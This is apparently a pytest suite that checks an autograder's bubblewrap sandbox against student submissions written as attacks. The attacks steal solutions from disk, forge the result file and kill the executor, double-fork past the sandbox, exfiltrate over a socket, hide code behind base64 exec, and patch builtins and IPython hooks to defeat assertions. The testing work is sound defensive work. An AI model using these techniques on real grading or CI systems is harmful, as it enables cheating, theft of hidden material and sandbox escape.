"""Attacks on grading, each graded through ``grade`` on the tiny course, sandboxed as CI grades.

Every attack must end with zero points for the exercise it tried to steal, or a reason or flag on its
row, and no feedback file may hold a line of a hidden test or solution. The tests run in the grader's
kernel, where no student code ran (autograder.grade.judge): an attack on the test machinery changes only
the student's own kernel. Where the attack is on
the sandbox itself (reading the course, the network, surviving the kernel), the same attack graded
with ``--sandbox none`` shows it works there: the test would fail if the sandbox did nothing.
"""

from __future__ import annotations

import base64
import html
import os
import re
import secrets
import socket
import threading
from pathlib import Path

import nbformat
import pytest

from autograder.grade import sandbox as sandboxes
from autograder.grade.coordinator import Limits, grade, local_runner
from autograder.nbgrader.commands import nbgrader
from autograder.nbgrader.course import Course
from tests import tiny_course as tiny

pytestmark = pytest.mark.notebooks

LIMITS = Limits(timeout=180, cell_timeout=30, memory_mb=1000, processes=150, file_mb=20)
HONEST_ADD = "def add(a, b):\n    return a + b"
HONEST_MEAN = "def mean(xs):\n    return sum(xs) / len(xs)"
SLEEP_MARK = "4242.4242"  # the double-forked process sleeps this long: found in /proc if it survived


def _hidden(code: str) -> str:
    """``code`` run through ``exec`` of base64 text: a static scan that reads literals does not see it."""
    encoded = base64.b64encode(code.encode()).decode()
    return f"import base64 as _b\nexec(_b.b64decode({encoded!r}).decode())"


STEAL_SOLUTION = '''\
import json, pathlib
# up from the working folder, and where the attacker knows the course lives
for folder in [*pathlib.Path.cwd().parents, pathlib.Path(COURSE)]:
    for path in folder.glob("source/*/*.ipynb"):
        for cell in json.load(open(path))["cells"]:
            text = "".join(cell["source"])
            if "BEGIN SOLUTION" in text:
                exec(text)
'''
PRINT_NOTEBOOKS = '''\
import pathlib
for folder in pathlib.Path.cwd().parents:
    if folder == pathlib.Path("/"):
        break
    for path in list(folder.glob("**/*.ipynb")) + list(folder.glob("**/*.db")):
        try:
            print(path, path.read_text(errors="replace"))
        except OSError:
            pass
'''
# Issue 22's first attack: the kernel writes the executor's result file itself (a notebook whose test cells have no
# error), then kills the executor so that its own write never happens. Before the judge, the grader read that file.
FORGE_RESULT = '''\
import json, os, signal
def _cell(grade_id, points):
    return {"cell_type": "code", "id": grade_id, "execution_count": 1, "outputs": [], "source": "pass",
            "metadata": {"nbgrader": {"grade": True, "solution": False, "locked": True, "points": points,
                                      "grade_id": grade_id, "schema_version": 3, "task": False}}}
forged = {"nbformat": 4, "nbformat_minor": 5, "metadata": {},
          "cells": [_cell("ex1-tests", 2.0), _cell("ex2-tests", 3.0)]}
for folder in ("/grader", os.getcwd(), "/tmp"):
    try:
        with open(os.path.join(folder, "result.json"), "w") as out:
            json.dump({"notebook": forged, "tampering": [], "seconds": 1.0}, out)
    except OSError:
        pass
for pid in (os.getppid(), -1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
'''
DOUBLE_FORK = f'''\
import os
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sleep", ["sleep", "{SLEEP_MARK}"])
    os._exit(0)
os.wait()
'''


def attacks(canary_path: Path, port: int) -> dict[str, dict[str, str]]:
    """student -> answers (grade id -> code) of each attack (the canary lies in the course's root)."""
    course = str(canary_path.parent)
    return {
        "honest": {"ex1-add": HONEST_ADD, "ex2-mean": HONEST_MEAN},
        "steals-solution": {"ex1-add": f"COURSE = {course!r}\n" + STEAL_SOLUTION, "ex2-mean": HONEST_MEAN},
        "input-transformer": {"ex1-add": _hidden(
            "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])"), "ex2-mean": HONEST_MEAN},
        "ast-transformer": {"ex1-add": _hidden(
            "import ast\nclass Gut(ast.NodeTransformer):\n"
            "    def visit_Assert(self, node):\n        return ast.Pass()\n"
            "get_ipython().ast_transformers.append(Gut())"), "ex2-mean": HONEST_MEAN},
        "pre-run-callback": {"ex1-add": _hidden(
            "import builtins\ndef quiet(info):\n    builtins.AssertionError = type('Never', (Exception,), {})\n"
            "get_ipython().events.register('pre_run_cell', quiet)"), "ex2-mean": HONEST_MEAN},
        "patches-builtins": {"ex1-add": _hidden("import builtins\nvars(builtins)['AssertionError'] = KeyError"),
                             "ex2-mean": HONEST_MEAN},
        "prints-history": {"ex1-add": HONEST_ADD, "ex2-mean": HONEST_MEAN + "\nprint(In)\nprint(_ih[-2])"},
        "prints-notebooks": {"ex1-add": PRINT_NOTEBOOKS + HONEST_ADD, "ex2-mean": HONEST_MEAN},
        "reads-canary": {"ex1-add": f"print(open({str(canary_path)!r}).read())\n" + HONEST_ADD,
                         "ex2-mean": HONEST_MEAN},
        "network": {"ex1-add": HONEST_ADD, "ex2-mean": _hidden(
            f"import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=5).sendall(b'stolen')")
            + "\n" + HONEST_MEAN},
        "double-fork": {"ex1-add": DOUBLE_FORK + HONEST_ADD, "ex2-mean": HONEST_MEAN},
        "thread-bomb": {"ex1-add": HONEST_ADD, "ex2-mean": "import threading, time\nfor _ in range(300):\n"
                        "    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()\n" + HONEST_MEAN},
        "extra-file": {"ex1-add": "from helper import add", "ex2-mean": HONEST_MEAN},
        "forges-result": {"ex1-add": _hidden(FORGE_RESULT) + "\ndef add(a, b):\n    return 0", "ex2-mean": HONEST_MEAN},
        "lying-result": {"ex1-add": "class Equal:\n    def __eq__(self, other):\n        return True\n"
                                    "def add(a, b):\n    return Equal()", "ex2-mean": HONEST_MEAN},
        "never-returns": {"ex1-add": "import time\ndef add(a, b):\n    while True:\n        time.sleep(1)",
                          "ex2-mean": HONEST_MEAN},
        "big-file": {"ex1-add": "open('/tmp/big', 'wb').write(b'x' * 100_000_000)\n" + HONEST_ADD,
                     "ex2-mean": HONEST_MEAN},
    }


# student -> (score, words its row must contain)
EXPECTED = {
    "honest": (5, []),
    "steals-solution": (3, []),  # nothing to steal in the sandbox: ex1 has no answer
    # the test machinery lives in the grader's kernel: what the student's kernel changes in its own reaches no
    # test (each earns ex2's 3 points for its honest mean, nothing for ex1, whose cell defines no add)
    "input-transformer": (0, []),  # its own later cells become `pass`: mean is never defined either
    "ast-transformer": (3, []),
    "pre-run-callback": (3, []),
    "patches-builtins": (3, []),
    "prints-history": (5, []),
    "prints-notebooks": (5, []),
    "reads-canary": (3, []),  # the file is not there: the answer cell raises before defining add
    "network": (2, []),  # no network: the connection fails and ex2's cell raises
    "double-fork": (5, []),
    "thread-bomb": (2, []),  # the process limit (150 here) stops it: ex2's cell raises
    "extra-file": (5, ["helper.py", "runs code built at run time"]),  # graded, and its helper.py flagged
    "big-file": (3, []),  # the file-size limit (20 MB here) stops it: ex1's cell raises
    "forges-result": (3, []),  # no file of the student's is read: its add (returns 0) fails ex1
    "lying-result": (3, []),  # an object that equals everything does not cross: ex1 fails with the reason
    "never-returns": (3, ["did not finish within 30 s"]),  # stopped after the cell's time limit, the rest graded
}


class Listener:
    """A TCP server on 127.0.0.1 that records whether anyone connected."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.5)
        self.port = self.server.getsockname()[1]
        self.connections = 0
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop.is_set():
            try:
                connection, _ = self.server.accept()
            except TimeoutError:
                continue
            self.connections += 1
            connection.close()

    def close(self) -> None:
        self.stop.set()
        self.thread.join()
        self.server.close()


def _sleepers() -> list[int]:
    found = []
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            if SLEEP_MARK.encode() in cmdline.read_bytes():
                found.append(int(cmdline.parent.name))
        except OSError:
            continue
    return found


# Files besides the notebook: a module whose code hides behind exec of hex text (the scan must read it too).
EXTRA_FILES = {"extra-file": {"helper.py": f"exec(bytes.fromhex({HONEST_ADD.encode().hex()!r}).decode())\n".encode()}}


def _submit(root: Path, students: dict[str, dict[str, str]]) -> None:
    release = tiny.release(root)
    for student, answers in students.items():
        folder = root / "submitted" / student / tiny.ASSIGNMENT
        folder.mkdir(parents=True)
        nbformat.write(tiny.with_answers(release, answers), folder / tiny.NOTEBOOK)
        for name, content in EXTRA_FILES.get(student, {}).items():
            (folder / name).write_bytes(content)


def _build(tmp: Path, name: str) -> tuple[Course, Path, str, Listener]:
    root = tiny.build(tmp / name)
    canary = secrets.token_hex(16)
    (root / "canary.txt").write_text(canary)
    listener = Listener()
    return Course(root), root / "canary.txt", canary, listener


@pytest.fixture(scope="module")
def sandboxed(tmp_path_factory):
    problem = sandboxes.bwrap_problem()
    if problem and not os.environ.get("COURSE_REQUIRE_SANDBOX"):
        pytest.skip(f"bubblewrap cannot run here: {problem}")
    course, canary_path, canary, listener = _build(tmp_path_factory.mktemp("attacks"), "course")
    students = attacks(canary_path, listener.port)
    _submit(course.root, students)
    try:
        rows = {row.student: row for row in grade(course, tiny.ASSIGNMENT, limits=LIMITS, runner=local_runner(2),
                                                  sandbox="bwrap", log=lambda line: None)}
    finally:
        listener.close()
    nbgrader(["generate_feedback", tiny.ASSIGNMENT, "--force"], cwd=course.root)
    return course, rows, canary, listener, _sleepers()


def _text(row) -> str:
    return " ".join(row.reasons + row.flags).lower()


@pytest.mark.parametrize("student", sorted(EXPECTED))
def test_each_attack_scores_what_it_earned_and_says_why(sandboxed, student):
    _, rows, _, _, _ = sandboxed
    row = rows[student]
    score, words = EXPECTED[student]
    assert (row.score, row.max_score, row.sandbox) == (score, 5, "bwrap"), row
    for word in words:
        assert word in _text(row), f"{student}: {word!r} not in {row}"


def test_the_sandbox_cannot_read_the_course_or_reach_the_network(sandboxed):
    course, rows, canary, listener, _ = sandboxed
    autograded = (course.root / "autograded" / "reads-canary" / tiny.ASSIGNMENT / tiny.NOTEBOOK).read_text()
    assert canary not in autograded
    assert "FileNotFoundError" in autograded  # the attack ran, and found nothing
    assert listener.connections == 0
    assert "ConnectionRefusedError" in (course.root / "autograded" / "network" / tiny.ASSIGNMENT
                                        / tiny.NOTEBOOK).read_text()


def test_the_student_kernel_holds_no_hidden_test(sandboxed):
    """The sanitized notebook (hidden tests included) never reaches the student's sandbox, on disk or in memory."""
    course, _, _, _, _ = sandboxed
    nb = nbformat.read(course.root / "autograded" / "prints-notebooks" / tiny.ASSIGNMENT / tiny.NOTEBOOK, 4)
    printed = "".join(output.get("text", "") for cell in nb.cells for output in cell.get("outputs", []))
    assert "add(-5, 5)" not in printed and "mean([0.5])" not in printed


def test_the_process_and_file_size_limits_hold(sandboxed):
    course, _, _, _, _ = sandboxed

    def errors(student: str) -> str:
        nb = nbformat.read(course.root / "autograded" / student / tiny.ASSIGNMENT / tiny.NOTEBOOK, 4)
        return " ".join(f"{output.get('ename')}: {output.get('evalue')}" for cell in nb.cells
                        for output in cell.get("outputs", []) if output.get("output_type") == "error")

    assert "can't start new thread" in errors("thread-bomb")
    assert "File too large" in errors("big-file")


def test_no_process_outlives_its_sandbox(sandboxed):
    _, _, _, _, survivors = sandboxed
    assert survivors == []


def _secret_lines(root: Path) -> set[str]:
    """Lines of the source notebook that students never see (solutions, hidden tests)."""
    source = nbformat.read(root / "source" / tiny.ASSIGNMENT / tiny.NOTEBOOK, as_version=4)
    release = nbformat.read(root / "release" / tiny.ASSIGNMENT / tiny.NOTEBOOK, as_version=4)
    seen = {line.strip() for cell in release.cells for line in cell.source.splitlines()}
    return {line.strip() for cell in source.cells for line in cell.source.splitlines()
            if line.strip() and line.strip() not in seen and "###" not in line}


@pytest.mark.parametrize("student", sorted(EXPECTED))
def test_no_feedback_holds_a_line_of_the_instructors_notebook(sandboxed, student):
    course, _, _, _, _ = sandboxed
    secret = _secret_lines(course.root)
    assert "assert add(-5, 5) == 0" in secret and "return sum(xs) / len(xs)" in secret
    own = set()  # what the student wrote is theirs to see, even where it equals the solution
    for answer in attacks(Path("/x"), 0)[student].values():
        own |= {line.strip() for line in answer.splitlines()}
    page = next((course.root / "feedback" / student / tiny.ASSIGNMENT).glob("*.html")).read_text()
    for text in (page, html.unescape(re.sub(r"<[^>]+>", "", page))):
        leaked = sorted(line for line in secret - own if line in text)
        assert not leaked, f"{student}: feedback holds {leaked}"


@pytest.fixture(scope="module")
def unsandboxed(tmp_path_factory):
    """The attacks on the sandbox, graded without one: they must work, or the tests above prove nothing."""
    course, canary_path, canary, listener = _build(tmp_path_factory.mktemp("no-sandbox"), "course")
    chosen = ("reads-canary", "network", "prints-history", "steals-solution")
    _submit(course.root, {name: attacks(canary_path, listener.port)[name] for name in chosen})
    try:
        rows = {row.student: row for row in grade(course, tiny.ASSIGNMENT, limits=LIMITS, runner=local_runner(2),
                                                  sandbox="none", log=lambda line: None)}
    finally:
        listener.close()
    return course, rows, canary, listener


def test_without_the_sandbox_the_same_attacks_get_through(unsandboxed):
    course, rows, canary, listener = unsandboxed
    autograded = (course.root / "autograded" / "reads-canary" / tiny.ASSIGNMENT / tiny.NOTEBOOK).read_text()
    assert canary in autograded
    assert listener.connections == 1
    assert all("NOT sandboxed" in row.sandbox for row in rows.values())
    assert rows["steals-solution"].score == 5  # the instructor's solution, found on disk and run
    # the judge's separation holds without the sandbox: the student's kernel never received a test cell
    nb = nbformat.read(course.root / "autograded" / "prints-history" / tiny.ASSIGNMENT / tiny.NOTEBOOK, 4)
    printed = str([cell.get("outputs", []) for cell in nb.cells])
    assert "print(In)" in printed or "mean" in printed  # it printed its history
    assert "add(-5, 5)" not in printed and "mean([0.5])" not in printed


def test_the_report_says_when_grading_was_not_sandboxed(unsandboxed, tmp_path):
    from autograder.report.grades import write_report

    course, rows, _, _ = unsandboxed
    report = write_report(course, tiny.ASSIGNMENT, list(rows.values()), tmp_path, 1.0)
    assert "4 graded WITHOUT a sandbox" in report.summary
    assert "NOT sandboxed" in report.grades_csv.read_text() and "NOT sandboxed" in report.html.read_text()
